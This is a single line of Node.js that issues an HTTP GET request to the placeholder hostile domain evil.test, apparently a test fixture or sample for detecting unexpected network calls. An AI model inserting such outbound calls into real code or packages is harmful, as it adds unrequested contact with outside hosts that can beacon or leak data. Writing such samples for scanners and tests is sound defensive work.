require("http").get("http://evil.test")
